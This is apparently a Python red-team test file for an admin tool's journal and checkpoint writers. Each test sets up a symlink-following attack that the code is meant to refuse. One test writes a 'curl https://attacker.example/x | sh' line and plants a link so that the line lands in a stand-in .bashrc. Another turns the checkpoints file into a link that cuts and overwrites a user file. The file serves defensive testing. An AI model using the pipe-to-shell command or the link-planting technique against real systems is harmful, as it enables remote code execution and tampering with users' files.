"""Red-team attacks on the journal's trust (branch h/journal-undo): ``evidence/journal.py``,
``evidence/checkpoints.py``, ``jobs/revert_journal.py``. The attacker can write the user's
data folder (the journal, its checkpoints file, the jobs folder) but has no installation key.
Each test is one attack the current code lets through.
"""

from __future__ import annotations

import contextlib
from pathlib import Path
from typing import Any

from portal_admin.evidence import journal as jr
from portal_admin.evidence import keys

CHANGE = {
    "kind": "change",
    "profile": "Sandbox",
    "server": "sandbox://built-in",
    "account": "admin@example.test",
    "operation": "accounts.status",
    "fields": {"action": "SUSPEND"},
    "outcome": "ok",
}


def _written(path: Path, n: int = 25) -> None:
    """``n`` records of this installation, checkpointed every ten and at the close: every
    record vouched for."""
    store = keys.MemoryStore()
    journal = jr.Journal(path, signer=lambda: keys.signing_key(store), checkpoint_every=10)
    for i in range(n):
        journal.append({**CHANGE, "targets": [f"ACC{i:06d}"], "before": {"value": "ACTIVE"},
                        "after": {"value": "SUSPENDED"}})  # fmt: skip
    journal.close()
    jr._WRITERS.clear()  # read as a later process does
    return None


def _line(prev: str, body: dict[str, Any]) -> tuple[bytes, str]:
    digest = jr.chain_hash(prev, body)
    return jr.canonical({**body, "prev": prev, "hash": digest}) + b"\n", digest


def _fork(path: Path, after_seq: int, forged: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Append a ``segment`` record naming a break after ``after_seq`` (chained from that
    record, as a real torn tail would be) and ``forged`` records after it, re-using seqs the
    checkpoints already vouch for; the forged records as written."""
    records = list(jr.read(path))
    prev = next(str(r["hash"]) for r in records if r["seq"] == after_seq)
    seq = after_seq + 1
    out, written = [], []
    body = {"kind": "segment", "time": jr.now_iso(), "reason": "torn", "after_seq": after_seq,
            "seq": seq, "segment": 1, "format": jr.FORMAT}  # fmt: skip
    raw, prev = _line(prev, body)
    out.append(raw)
    for record in forged:
        seq += 1
        body = {"time": jr.now_iso(), **record, "seq": seq, "segment": 1, "format": jr.FORMAT}
        raw, digest = _line(prev, body)
        out.append(raw)
        written.append({**body, "prev": prev, "hash": digest})
        prev = digest
    with path.open("ab") as fh:
        fh.write(b"".join(out))
    return written


def test_a_torn_tail_is_appended_through_a_planted_link(tmp_path: Path) -> None:
    """Attack: whoever can write the journal's folder ends the journal with a line without
    its newline (a "torn" record whose text is a shell command) and plants ``journal.torn``
    as a symbolic link to a file of the user (here a stand-in for ``~/.bashrc``). The next
    append of the program sets the torn line aside with ``open("ab")`` on ``journal.torn``,
    which follows the link: the attacker's text is appended to the user's file (a command
    run at their next shell). Class of fix: the side file is opened without following links
    (``O_NOFOLLOW``/``O_EXCL`` on a fresh name, or ``lstat`` and refuse a link), owner-only,
    in the journal's folder. (The same code is on ``main``: this test fails there too.)"""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    first = jr.Journal(path)
    for n in range(3):
        first.append({**CHANGE, "targets": [f"ACC{n}"]})
    first.close()
    with path.open("ab") as fh:
        fh.write(b"curl https://attacker.example/x | sh")  # no newline: a torn tail
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the user's shell start-up\n")
    path.with_suffix(".torn").symlink_to(victim)
    journal = jr.Journal(path)
    try:
        journal.append({**CHANGE, "targets": ["ACC1"]})
    except OSError:
        pass  # refused to follow the link: fine
    finally:
        journal.close()
    assert "attacker.example" not in victim.read_text(), (
        "the torn line was appended to the file a planted link points at"
    )


def test_a_checkpoint_is_written_through_a_planted_link_and_cuts_the_target(
    tmp_path: Path,
) -> None:
    """Attack: as above, with ``journal.checkpoints.jsonl`` planted as a link to a user file
    whose end is not a newline. ``checkpoints.append`` opens it with ``O_APPEND|O_CREAT``
    (links followed), takes the last line for one "cut short by a kill" and ``ftruncate``s
    it away, then appends the checkpoint: the user's file loses its last line and gains a
    line of JSON. Class of fix: as above (no link followed for the journal's side files)."""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    victim = tmp_path / "home" / "notes.txt"
    victim.parent.mkdir()
    victim.write_bytes(b"first line\nthe last line, without a newline")
    (path.parent / "journal.checkpoints.jsonl").symlink_to(victim)
    with contextlib.suppress(OSError):  # refused to follow the link: fine
        _written(path, 3)
    assert victim.read_bytes() == b"first line\nthe last line, without a newline", (
        "a planted link made the checkpoint writer cut and append to a user file"
    )
